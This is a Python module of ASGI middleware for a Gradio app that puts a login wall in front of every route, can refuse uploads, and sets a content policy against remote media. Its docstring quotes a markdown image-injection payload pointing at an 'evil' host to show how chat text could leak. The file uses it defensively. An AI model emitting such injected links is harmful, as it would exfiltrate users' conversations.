"""What the web server lets through, in front of every Gradio route: the login wall, the page's content policy, and
whether files may be uploaded.

Gradio checks the login on its API routes but still renders `/` for a stranger with the whole API description
inside (every endpoint, persona and model names); so with a login, anything but the login itself gets a plain
login page (or a 401) here, before Gradio sees the request. The content policy keeps a reply from making the
browser fetch a remote image, video or frame: `![x](https://evil/?q=chat text)` in a reply would otherwise send
the chat to whoever wrote the URL.
"""

import html
import json
from dataclasses import dataclass

from starlette.middleware import Middleware
from starlette.requests import cookie_parser

# What a stranger may reach: the login itself, files every browser asks for on its own, and the call Gradio makes
# to itself at launch (it answers only true).
OPEN_PATHS = {("POST", "/login"), ("POST", "/login/"), ("GET", "/favicon.ico"), ("GET", "/robots.txt"),
              ("GET", "/gradio_api/startup-events")}
UPLOAD_PATHS = ("/gradio_api/upload", "/gradio_api/process_recording")
# Pictures, media and frames only from the app itself (data: and blob: are the app's own renderings).
NO_REMOTE_MEDIA = ("img-src 'self' data: blob:; media-src 'self' data: blob:; frame-src 'self'; "
                   "object-src 'none'")


@dataclass(frozen=True)
class WebPolicy:
    remote_media: bool = False  # --allow-remote-media: replies may show pictures and media from other sites
    uploads: bool = True  # False in demo mode: a guest has no use for files, so none are taken


def web_middleware(policy: WebPolicy) -> Middleware:
    return Middleware(WebGuard, policy=policy)


class WebGuard:
    """Pure ASGI (no buffering), so streamed replies pass through untouched."""

    def __init__(self, app, policy: WebPolicy):
        self.app, self.policy = app, policy

    async def __call__(self, scope, receive, send):
        if scope["type"] not in ("http", "websocket"):
            return await self.app(scope, receive, send)
        path = _local_path(scope)
        method = scope.get("method", "GET")
        if not _logged_in(scope) and (method, path) not in OPEN_PATHS:
            return await _refuse_stranger(scope, send)
        if not self.policy.uploads and path.rstrip("/") in UPLOAD_PATHS:
            return await _send(send, 403, "application/json",
                               json.dumps({"detail": "This demo takes no files."}).encode())
        if self.policy.remote_media or scope["type"] != "http":
            return await self.app(scope, receive, send)
        await self.app(scope, receive, _with_content_policy(send))


def _local_path(scope) -> str:
    path, root = scope.get("path", "/"), scope.get("root_path", "")
    return path[len(root):] or "/" if root and path.startswith(root) else path


def _logged_in(scope) -> bool:
    """True without a login set; otherwise whether the request carries one of Gradio's login cookies."""
    gradio_app = scope.get("app")
    if getattr(gradio_app, "auth", None) is None:
        return True
    headers = dict(scope.get("headers") or [])
    cookies = cookie_parser(headers.get(b"cookie", b"").decode("latin-1"))
    tokens, cookie_id = gradio_app.tokens, gradio_app.cookie_id
    return any(cookies.get(name) in tokens
               for name in (f"access-token-{cookie_id}", f"access-token-unsecure-{cookie_id}"))


async def _refuse_stranger(scope, send) -> None:
    if scope["type"] == "websocket":
        await send({"type": "websocket.close", "code": 1008})
        return
    accepts = dict(scope.get("headers") or []).get(b"accept", b"")
    if scope.get("method") in ("GET", "HEAD") and (_local_path(scope) == "/" or b"text/html" in accepts):
        message = getattr(getattr(scope.get("app"), "blocks", None), "auth_message", None) or "Log in to continue."
        await _send(send, 401, "text/html; charset=utf-8", login_page(message, scope.get("root_path", "")).encode())
        return
    await _send(send, 401, "application/json", json.dumps({"detail": "Not authenticated: log in first."}).encode())


async def _send(send, status: int, content_type: str, body: bytes) -> None:
    headers = [(b"content-type", content_type.encode()), (b"content-length", str(len(body)).encode()),
               (b"cache-control", b"no-store")]
    if content_type.startswith("text/html"):
        headers.append((b"content-security-policy", NO_REMOTE_MEDIA.encode()))
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": body})


def _with_content_policy(send):
    async def sending(message):
        if message["type"] == "http.response.start":
            headers = list(message.get("headers") or [])
            content_type = next((v for k, v in headers if k.lower() == b"content-type"), b"")
            if content_type.startswith(b"text/html"):
                headers.append((b"content-security-policy", NO_REMOTE_MEDIA.encode()))
                message = {**message, "headers": headers}
        await send(message)
    return sending


def login_page(message: str, root: str) -> str:
    """A page with a login form and nothing of the app: no config, no API description."""
    root = html.escape(root.rstrip("/"), quote=True)
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Log in</title>
<style>body{{font-family:system-ui,sans-serif;display:flex;justify-content:center;margin-top:12vh}}
form{{display:flex;flex-direction:column;gap:.6em;width:18em}}input,button{{font-size:1em;padding:.4em}}
#problem{{color:#b00020;min-height:1.2em}}</style></head>
<body><form id="login" method="post" action="{root}/login">
<h1>Log in</h1><p>{html.escape(message)}</p>
<label>User <input name="username" autocomplete="username" required autofocus></label>
<label>Password <input name="password" type="password" autocomplete="current-password" required></label>
<button type="submit">Log in</button><p id="problem" role="alert"></p></form>
<script>
document.getElementById("login").addEventListener("submit", async (event) => {{
  event.preventDefault();
  const problem = document.getElementById("problem");
  problem.textContent = "";
  try {{
    const answer = await fetch("{root}/login", {{method: "POST", body: new URLSearchParams(new FormData(event.target))}});
    if (answer.ok) {{ window.location.replace("{root}/"); return; }}
    problem.textContent = "Wrong user or password: check the login the host gave you.";
  }} catch (error) {{
    problem.textContent = "The app cannot be reached: check the address and try again.";
  }}
}});
</script></body></html>
"""
